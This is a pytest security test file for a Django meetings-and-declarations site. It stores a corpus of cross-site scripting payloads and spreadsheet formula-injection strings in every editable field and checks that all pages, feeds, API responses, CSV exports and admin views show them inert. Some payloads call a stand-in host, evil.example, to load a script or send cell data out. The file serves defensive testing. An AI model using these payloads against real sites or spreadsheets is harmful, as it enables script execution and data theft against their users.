"""Untrusted text: whatever markup, script or formula an editor types into a field, every page,
feed, calendar, API answer and admin page that shows it shows it inert.

The corpus goes through the Markdown filter one vector at a time (cheap), and into every field of
one published record per round: one-line fields take one vector each, cycling through the corpus
from a different place each round; Markdown and other multi-line fields take a whole share of it.
Each page is then fetched once per round and parsed as a browser's tokenizer reads it.
"""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from types import SimpleNamespace

import icalendar
import pytest
from django.db import transaction
from django.urls import reverse

from declarations.models import (
    Declaration,
    DeclarationSource,
    DeclarationTitle,
    Paragraph,
    Topic,
)
from meetings.models import (
    Country,
    Meeting,
    MeetingSeries,
    MeetingSource,
    Organization,
    Participant,
    Person,
    PersonName,
    SeriesName,
)
from tests.factories import (
    CommitmentFactory,
    CommitmentUpdateFactory,
    DeclarationFactory,
    DeclarationSourceFactory,
    DeclarationTitleFactory,
    MeetingFactory,
    MeetingSeriesFactory,
    MeetingSourceFactory,
    OrganizationFactory,
    ParagraphFactory,
    ParticipantFactory,
    PersonFactory,
    PersonNameFactory,
    RemarkFactory,
    SeriesNameFactory,
    TopicFactory,
    this_year,
)
from tests.sitemaps import sitemap_entries, sitemap_files
from trilateral.markdown import render_markdown
from trilateral.models import Correction

CORPUS = [
    # Script elements and event handlers, and breaking out of an element or an attribute.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<b onclick=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    # javascript: links and their disguises.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # data: URLs.
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # Embedded documents.
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    # Style.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    # Whole-document elements.
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # Markdown's own ways to a link, an image or raw HTML.
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Spreadsheet formulas, for the CSV export.
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

# PostgreSQL cannot store a NUL character, and every form and serializer refuses one, so vectors
# with NUL go through the Markdown filter only. Other control characters (but tab and line
# breaks) cannot be written in XML 1.0: they have a test of their own, for the feeds.
CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
STORABLE = [vector for vector in CORPUS if not CONTROL_CHARACTERS.search(vector)]
ONE_LINE = [vector for vector in STORABLE if "\n" not in vector]
ROUNDS = 3

# --- What "inert" means ---------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "cite",
    "srcset",
    "ping",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements that load or run another document, change how the whole page is read, or (in SVG)
# animate an attribute into a script.
FORBIDDEN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "math",
    "portal",
    "foreignobject",
    "animate",
    "animatemotion",
    "animatetransform",
    "set",
    "handler",
    "listener",
}
# Script elements a browser keeps as data and never runs.
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
# Scripts the site serves itself: its static files and the admin's translation catalogue.
OWN_SCRIPTS = ("/static/", "/admin/jsi18n/")
DANGEROUS_CSS = ("expression(", "javascript:", "vbscript:", "-moz-binding", "behavior:", "@import")
# Browsers drop C0 controls and spaces around a URL, and tabs and newlines inside it; the check
# ignores them anywhere, which is stricter.
URL_IGNORED = re.compile(r"[\x00-\x20\x7f]+")
# A vector with a tag in it can only appear verbatim in a page that did not escape it.
HAS_TAG = re.compile(r"<[a-zA-Z!/]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def dangerous_url(value):
    return URL_IGNORED.sub("", value).lower().startswith(DANGEROUS_SCHEMES)


def dangerous_css(value):
    compact = re.sub(r"\s+|/\*.*?\*/", "", value.lower())
    # A backslash is a CSS escape: the way to spell "expression" without its letters.
    return "\\" in compact or any(term in compact for term in DANGEROUS_CSS)


class InertnessCheck(HTMLParser):
    """Reads a page as a browser's tokenizer would and lists whatever in it could run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.text = []
        self.attribute_values = []
        self.raw = None  # (tag, attributes, content) inside a script or style element

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        for name, value in attrs:
            value = value or ""
            self.attribute_values.append(value)
            if name.startswith("on"):
                self.problems.append(f"event handler <{tag} {name}={value!r}>")
            urls = value.split(",") if name == "srcset" else [value]
            if name in URL_ATTRIBUTES and any(dangerous_url(url) for url in urls):
                self.problems.append(f"dangerous URL <{tag} {name}={value!r}>")
            if name == "style" and dangerous_css(value):
                self.problems.append(f"dangerous style <{tag} style={value!r}>")
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"forbidden element <{tag}>")
        if tag == "meta" and attributes.get("http-equiv", "content-type").lower() != "content-type":
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        # The admin's icons reuse a symbol of the page; any other <use> loads a document.
        if tag == "use" and not (
            attributes.get("href") or attributes.get("xlink:href", "")
        ).startswith("#"):
            self.problems.append(f"<use> of another document {attributes}")
        if tag == "script" and not self.own_script(attributes):
            self.problems.append(f"script element {attributes}")
        if tag in ("script", "style"):
            self.raw = (tag, attributes, [])

    @staticmethod
    def own_script(attributes):
        if "src" in attributes:
            return attributes["src"].startswith(OWN_SCRIPTS)
        return attributes.get("type") in DATA_SCRIPT_TYPES

    def handle_endtag(self, tag):
        if self.raw and tag == self.raw[0]:
            tag, attributes, parts = self.raw
            content = "".join(parts)
            self.raw = None
            if tag == "style" and dangerous_css(content):
                self.problems.append(f"dangerous style element {content[:80]!r}")
            if tag == "script" and "src" not in attributes:
                # Data that a value broke out of would no longer be valid JSON.
                try:
                    json.loads(content)
                except ValueError:
                    self.problems.append(f"script data is not JSON: {content[:80]!r}")

    def handle_data(self, data):
        if self.raw:
            self.raw[2].append(data)
        else:
            self.text.append(data)

    def shows(self, value):
        """Whether the value reaches the reader as the editor wrote it: as text (line breaks
        may become <br>) or as an attribute such as a tooltip."""
        wanted = "".join(value.split())
        return wanted in "".join("".join(self.text).split()) or any(
            wanted in "".join(attribute.split()) for attribute in self.attribute_values
        )


def inspect_html(html):
    check = InertnessCheck()
    check.feed(html)
    check.close()
    return check


def assert_inert_html(html, *, shows=()):
    check = inspect_html(html)
    assert not check.problems, check.problems
    verbatim = [vector for vector in CORPUS if HAS_TAG.search(vector) and vector in html]
    assert not verbatim, f"left unescaped: {verbatim}"
    missing = [value for value in shows if not check.shows(value)]
    assert not missing, f"not shown as written: {missing}"


def assert_inert_page(response, *, shows=()):
    assert response.status_code in (200, 400), response.status_code
    assert response["Content-Type"].startswith("text/html")
    policy = dict(
        part.strip().split(" ", 1)
        for part in response["Content-Security-Policy"].split(";")
        if part.strip()
    )
    assert policy["script-src"] == "'self'"
    assert_inert_html(response.content.decode(), shows=shows)


# --- The checks themselves can fail ---------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script type="application/ld+json">{"a": "</script><script>alert(1)</script>"}</script>',
        "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" \x01JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<form action="javascript:alert(1)"></form>',
        '<button formaction="vbscript:msgbox(1)">x</button>',
        "<iframe src=https://example.org></iframe>",
        "<object data=x></object>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<embed src=x>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="background:url(&#x27;javascript:alert(1)&#x27;)">x</p>',
        "<style>p{background:url(javascript:alert(1))}</style>",
    ],
)
def test_the_inertness_check_catches_live_markup(html):
    assert inspect_html(html).problems


def test_the_inertness_check_accepts_the_sites_own_markup():
    html = (
        '<script src="/static/js/site.js" defer></script>'
        '<script type="application/ld+json">{"name": "\\u003Cb\\u003E"}</script>'
        '<a href="/en/meetings/" title="x">x</a><a href="https://example.org/">y</a>'
        '<a href="mailto:press@example.org">z</a><p style="color: red">&lt;script&gt;</p>'
        '<svg aria-hidden="true"><use xlink:href="#icon-moon"></use></svg>'
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
    )
    check = inspect_html(html)
    assert not check.problems
    assert check.shows("<script>")


# --- Markdown, one vector at a time ---------------------------------------------------------------


@pytest.mark.parametrize("vector", CORPUS)
def test_markdown_renders_every_vector_inert(vector):
    assert_inert_html(str(render_markdown(vector)))


def test_markdown_keeps_the_links_an_editor_means():
    html = render_markdown("[MOTIE](https://english.motie.go.kr/), [us](/meetings/), [p3](#p3)")
    assert [value for value in inspect_html(html).attribute_values if "noopener" not in value] == [
        "https://english.motie.go.kr/",
        "/meetings/",
        "#p3",
    ]


# --- One published record holding the corpus ------------------------------------------------------


class Vectors:
    """Hands out the corpus to the fields of one record: to each one-line field the next
    vector that fits it, starting a third of the way further each round so that the rounds
    together reach every vector; to each multi-line field, this round's share of the corpus."""

    def __init__(self, round_):
        start = round_ * len(ONE_LINE) // ROUNDS
        self.queue = ONE_LINE[start:] + ONE_LINE[:start]
        self.share = STORABLE[round_::ROUNDS]

    def line(self, model, field):
        max_length = model._meta.get_field(field).max_length
        fitting = next(vector for vector in self.queue if len(vector) <= max_length)
        self.queue.remove(fitting)
        return fitting

    def text(self):
        return "\n\n".join(self.share)


def build_hostile_record(round_):
    """A published series, meeting and declaration, with everything they show, in which every
    field an editor writes holds a vector."""
    vectors = Vectors(round_)
    line, text = vectors.line, vectors.text
    korea, _ = Country.objects.update_or_create(
        code="KR",
        defaults={"name": line(Country, "name"), "short_name": line(Country, "short_name")},
    )
    organization = OrganizationFactory(
        country=korea,
        name=line(Organization, "name"),
        abbreviation=line(Organization, "abbreviation"),
        url="https://example.org/ministry",
    )
    person = PersonFactory(
        slug="hostile-person",
        name=line(Person, "name"),
        family_name=line(Person, "family_name"),
        given_name=line(Person, "given_name"),
    )
    native_name = PersonNameFactory(
        person=person, language="ko", name=line(PersonName, "name"), note=line(PersonName, "note")
    )
    spelling = PersonNameFactory(
        person=person, language="en", name=line(PersonName, "name"), note=line(PersonName, "note")
    )
    series = MeetingSeriesFactory(
        slug="hostile-series",
        name=line(MeetingSeries, "name"),
        short_name=line(MeetingSeries, "short_name"),
        description=text(),
        established_by=line(MeetingSeries, "established_by"),
        origin=text(),
    )
    series.members.set([korea])
    series_name = SeriesNameFactory(
        series=series,
        party=korea,
        language="ko",
        used_by=line(SeriesName, "used_by"),
        name=line(SeriesName, "name"),
    )
    meeting = MeetingFactory(
        series=series,
        edition=1,
        slug="hostile-meeting",
        title=line(Meeting, "title"),
        # This year's, so that the calendar carries it too.
        start_date=this_year(),
        host_country=korea,
        city=line(Meeting, "city"),
        venue=line(Meeting, "venue"),
        summary=text(),
        body=text(),
    )
    # A second version, so the history lists a change of title.
    first_title = meeting.title
    meeting.title = line(Meeting, "title")
    meeting.save()
    participant = ParticipantFactory(
        meeting=meeting,
        person=person,
        country=korea,
        organization=organization,
        role_title=line(Participant, "role_title"),
        is_host=True,
    )
    meeting_source = MeetingSourceFactory(
        meeting=meeting,
        title=line(MeetingSource, "title"),
        publisher=line(MeetingSource, "publisher"),
    )
    remark = RemarkFactory(meeting=meeting, speaker=participant, source=meeting_source, text=text())
    topic = TopicFactory(slug="hostile-topic", name=line(Topic, "name"), description=text())
    declaration = DeclarationFactory(
        meeting=meeting,
        slug="hostile-declaration",
        title=line(Declaration, "title"),
        summary=text(),
    )
    declaration.topics.set([topic])
    declaration_title = DeclarationTitleFactory(
        declaration=declaration,
        party=korea,
        language="ko",
        used_by=line(DeclarationTitle, "used_by"),
        title=line(DeclarationTitle, "title"),
    )
    declaration_source = DeclarationSourceFactory(
        declaration=declaration,
        title=line(DeclarationSource, "title"),
        publisher=line(DeclarationSource, "publisher"),
    )
    paragraph = ParagraphFactory(
        declaration=declaration, number=1, heading=line(Paragraph, "heading"), text=text()
    )
    paragraph.topics.set([topic])
    commitment = CommitmentFactory(
        declaration=declaration,
        paragraph=paragraph,
        topic=topic,
        slug="hostile-commitment",
        text=text(),
    )
    update = CommitmentUpdateFactory(commitment=commitment, meeting=meeting, note=text())
    corrections = [
        Correction.objects.create(record=record, text=text())
        for record in (series, meeting, topic, declaration)
    ]
    return SimpleNamespace(**locals())


@pytest.fixture(scope="module", params=range(ROUNDS), ids=lambda round_: f"round{round_}")
def hostile_round(request, django_db_setup, django_db_blocker):
    """One round's record, built once for all the tests of the round (each test runs in a
    savepoint inside this transaction) and rolled back after them."""
    with django_db_blocker.unblock(), transaction.atomic():
        yield build_hostile_record(request.param)
        transaction.set_rollback(True)


@pytest.fixture
def hostile(hostile_round, db):
    return hostile_round


# --- Public pages ---------------------------------------------------------------------------------


def public_pages(r):
    """Each page that shows the record, with the values it must show as written."""
    shared = r.vectors.share  # remarks, paragraphs, commitments, progress notes, corrections
    return {
        "/en/": [
            r.series.name,
            r.series.established_by,
            r.series_name.name,
            r.series_name.used_by,
            r.meeting.title,
            r.meeting.city,
            r.declaration.title,
            r.topic.name,
            r.korea.short_name,
            *shared,
        ],
        "/en/meetings/": [r.meeting.title, r.meeting.city, r.declaration.title, r.korea.short_name],
        r.meeting.get_absolute_url(): [
            r.meeting.title,
            r.meeting.venue,
            r.meeting.city,
            r.series.name,
            r.korea.short_name,
            r.declaration.title,
            r.person.name,
            r.native_name.name,
            r.participant.role_title,
            r.organization.abbreviation,
            r.organization.name,
            r.meeting_source.title,
            r.meeting_source.publisher,
            r.topic.name,
            *shared,
        ],
        "/en/declarations/": [r.declaration.title, r.meeting.title],
        r.declaration.get_absolute_url(): [
            r.declaration.title,
            r.meeting.title,
            r.meeting.city,
            r.series.name,
            r.declaration_title.title,
            r.declaration_title.used_by,
            r.korea.short_name,
            r.paragraph.heading,
            r.topic.name,
            r.declaration_source.title,
            r.declaration_source.publisher,
            *shared,
        ],
        "/en/topics/": [r.topic.name],
        r.topic.get_absolute_url(): [
            r.topic.name,
            r.meeting.title,
            r.meeting.city,
            r.declaration.title,
            *shared,
        ],
        r.person.get_absolute_url(): [
            r.person.name,
            r.native_name.name,
            r.native_name.note,
            r.spelling.name,
            r.spelling.note,
            r.meeting.title,
            r.participant.role_title,
            r.organization.name,
            r.korea.short_name,
            r.meeting_source.publisher,
            *shared,
        ],
        r.korea.get_absolute_url(): [
            r.korea.short_name,
            r.korea.name,
            r.series.name,
            r.meeting.title,
            r.person.name,
            r.native_name.name,
            r.participant.role_title,
            r.organization.name,
        ],
        "/en/commitments/": [r.topic.name, r.declaration.title, *shared],
        "/en/search/?q=alert": [*shared],
    }


def test_public_pages_show_every_vector_as_text(client, hostile):
    for path, shows in public_pages(hostile).items():
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert_page(response, shows=shows)


@pytest.mark.parametrize(
    "vector",
    [
        '"><script>alert(1)</script>',
        "' onfocus='alert(1)' autofocus='",
        '<a href="javascript:alert(1)">x</a>',
    ],
)
def test_what_a_reader_types_comes_back_inert(client, db, vector):
    """Search terms and filter values are echoed in the page: as text, never as markup."""
    response = client.get("/en/search/", {"q": vector})
    assert_inert_page(response, shows=[vector])
    for path, parameter in [
        ("/en/meetings/", "country"),
        ("/en/meetings/", "year"),
        ("/en/declarations/", "topic"),
        ("/en/commitments/", "status"),
        ("/en/meetings/", "page"),
    ]:
        response = client.get(path, {parameter: vector})
        assert response.status_code in (200, 400, 404), (path, parameter)
        if response.status_code != 404:
            assert_inert_page(response)


def test_browsable_api_pages_are_inert(client, hostile):
    for path in (
        f"/api/v1/meetings/{hostile.meeting.slug}/",
        f"/api/v1/declarations/{hostile.declaration.slug}/",
        "/api/v1/people/",
    ):
        response = client.get(path, {"format": "api"})
        assert response.status_code == 200, path
        assert_inert_page(response)


# --- Feeds, calendar, sitemap ---------------------------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


def atom_entries(client, path):
    response = client.get(path)
    assert response.status_code == 200, path
    assert response["Content-Type"].startswith("application/atom+xml")
    # Our own response, parsed to prove it is well-formed XML.
    feed = ET.fromstring(response.content)  # noqa: S314
    for element in feed.iter():
        kind = element.get("type", "text")
        assert kind in ("text", "html"), f"{element.tag} has type {kind}"
        if kind == "html":
            assert_inert_html(element.text or "")
        href = element.get("href")
        assert href is None or href.startswith("http://testserver/"), href
    return {entry.findtext(f"{ATOM}title"): entry for entry in feed.iter(f"{ATOM}entry")}


def test_feeds_carry_titles_as_text_and_summaries_as_inert_html(client, hostile):
    entries = atom_entries(client, "/en/feeds/meetings.atom")
    entry = entries[hostile.meeting.title]
    # The summary ends with the corrections, as text.
    summary = inspect_html(entry.findtext(f"{ATOM}summary"))
    assert all(summary.shows(vector) for vector in hostile.vectors.share)

    entries = atom_entries(client, "/en/feeds/declarations.atom")
    entry = entries[hostile.declaration.title]
    assert [category.get("term") for category in entry.iter(f"{ATOM}category")] == [
        hostile.topic.name
    ]


def test_feeds_survive_control_characters(client, db):
    vector = '<a href="\x01javascript:alert(1)">x</a>'
    meeting = MeetingFactory(title=vector, summary=vector, start_date=this_year())
    declaration = DeclarationFactory(meeting=meeting, title=vector, summary=vector)
    assert_inert_page(client.get(meeting.get_absolute_url()), shows=[vector])
    assert_inert_page(client.get(declaration.get_absolute_url()), shows=[vector])
    events = icalendar.Calendar.from_ical(client.get("/en/calendar.ics").content).walk("VEVENT")
    assert vector in {str(event["SUMMARY"]) for event in events}
    for path in ("/en/feeds/meetings.atom", "/en/feeds/declarations.atom"):
        assert CONTROL_CHARACTERS.sub("", vector) in atom_entries(client, path)


def test_calendar_carries_the_text_as_written(client, hostile):
    response = client.get("/en/calendar.ics")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    (event,) = icalendar.Calendar.from_ical(response.content).walk("VEVENT")
    assert str(event["SUMMARY"]) == hostile.meeting.title
    assert str(event["LOCATION"]) == ", ".join(
        [hostile.meeting.venue, hostile.meeting.city, hostile.korea.short_name]
    )
    assert str(event["URL"]).startswith("http://testserver/")


def test_sitemap_lists_only_addresses_of_the_site(client, hostile):
    entries = sitemap_entries(client)
    assert f"http://testserver{hostile.meeting.get_absolute_url()}" in entries
    addresses = [
        *sitemap_files(client),
        *entries,
        *(href for links in entries.values() for href in links.values()),
    ]
    assert all(address.startswith("http://testserver/") for address in addresses)


# --- API ------------------------------------------------------------------------------------------


def api_resources(r):
    """Each API resource, the key of the record's detail, and values the detail must carry."""
    return [
        ("series", r.series.slug, [r.series.name, r.series.description, r.series_name.name]),
        ("meetings", r.meeting.slug, [r.meeting.title, r.meeting.summary, r.remark.text]),
        ("participants", r.participant.pk, [r.participant.role_title, r.person.name]),
        ("people", r.person.slug, [r.person.name, r.native_name.name, r.native_name.note]),
        ("organizations", r.organization.slug, [r.organization.name]),
        ("countries", r.korea.code, [r.korea.name, r.korea.short_name]),
        ("declarations", r.declaration.slug, [r.declaration.title, r.paragraph.text]),
        ("paragraphs", r.paragraph.pk, [r.paragraph.heading, r.paragraph.text]),
        ("declaration-titles", r.declaration_title.pk, [r.declaration_title.title]),
        ("topics", r.topic.slug, [r.topic.name, r.topic.description]),
        ("commitments", r.commitment.slug, [r.commitment.text, r.update.note]),
        ("commitment-updates", r.update.pk, [r.update.note]),
    ]


def strings_in(data, key=""):
    if isinstance(data, dict):
        for name, value in data.items():
            yield from strings_in(value, name)
    elif isinstance(data, list):
        for value in data:
            yield from strings_in(value, key)
    elif isinstance(data, str):
        yield key, data


def assert_json_is_data(response, stored):
    """JSON served as JSON: what editors wrote comes back exactly, not escaped or rendered; any
    other text (labels, links) is inert; every link is the site's own."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    for key, value in strings_in(response.json()):
        if key.endswith("url") or key == "address":
            assert value == "" or value.startswith(("http://", "https://")), (key, value)
        elif value not in stored:
            assert_inert_html(value)


def test_api_returns_what_editors_wrote_as_json_data(api_client, hostile):
    stored = {*STORABLE, hostile.vectors.text()}
    for resource, key, values in api_resources(hostile):
        listed = api_client.get(f"/api/v1/{resource}/")
        assert_json_is_data(listed, stored)
        detail = api_client.get(f"/api/v1/{resource}/{key}/")
        assert_json_is_data(detail, stored)
        carried = {value for _, value in strings_in(detail.json())}
        assert set(values) <= carried, resource


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.getvalue().decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_csv_exports_never_start_a_formula(api_client, hostile):
    cells = []
    for resource, _key, _values in api_resources(hostile):
        _header, *rows = read_csv(api_client.get(f"/api/v1/{resource}/", {"format": "csv"}))
        assert rows, resource
        cells += [cell for row in rows for cell in row]
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not formulas, formulas


def test_csv_keeps_a_formula_as_text_with_a_quote(api_client, db):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    meeting = MeetingFactory(title=formula, city="+cmd|' /C calc'!A0", venue="@SUM(1+1)")
    header, *rows = read_csv(api_client.get("/api/v1/meetings/", {"format": "csv"}))
    (by_name,) = [dict(zip(header, row, strict=True)) for row in rows if meeting.slug in row]
    assert by_name["title"] == "'" + formula
    assert by_name["city"] == "'+cmd|' /C calc'!A0"
    assert by_name["venue"] == "'@SUM(1+1)"


# --- Admin ----------------------------------------------------------------------------------------


def admin_url(obj, view="change"):
    opts = obj._meta
    args = [] if view == "changelist" else [obj.pk]
    return reverse(f"admin:{opts.app_label}_{opts.model_name}_{view}", args=args)


def test_admin_pages_show_every_vector_as_text(staff_client, hostile):
    r = hostile
    # Change pages, with the values their fields and inlines (names, participants, remarks,
    # sources, paragraphs, commitments, updates, corrections) must hold as written.
    pages = {
        admin_url(r.series): [r.series.name, r.series.description, r.series_name.used_by],
        admin_url(r.meeting): [
            r.meeting.title,
            r.meeting.city,
            r.meeting.venue,
            r.meeting.summary,
            r.participant.role_title,
            r.remark.text,
            r.meeting_source.title,
            r.meeting_source.publisher,
        ],
        admin_url(r.person): [r.person.name, r.native_name.name, r.spelling.note],
        admin_url(r.organization): [r.organization.name, r.organization.abbreviation],
        admin_url(r.korea): [r.korea.name, r.korea.short_name],
        admin_url(r.topic): [r.topic.name, r.topic.description],
        admin_url(r.declaration): [
            r.declaration.title,
            r.declaration_title.title,
            r.paragraph.heading,
            r.paragraph.text,
            r.commitment.text,
            r.declaration_source.publisher,
        ],
        admin_url(r.commitment): [r.commitment.text, r.update.note],
        "/admin/": [],
        admin_url(r.meeting, "history"): [r.first_title, r.meeting.title],
        admin_url(r.meeting, "history_compare"): [r.first_title, r.meeting.title],
    }
    # Every list, with its columns.
    for obj in (
        r.series, r.series_name, r.meeting, r.participant, r.remark, r.meeting_source, r.person,
        r.native_name, r.organization, r.korea, r.topic, r.declaration, r.declaration_title,
        r.paragraph, r.declaration_source, r.commitment, r.update, r.corrections[0],
    ):  # fmt: skip
        pages[admin_url(obj, "changelist")] = []
    for url, wanted in pages.items():
        response = staff_client.get(url)
        assert response.status_code == 200, url
        assert_inert_page(response, shows=wanted)
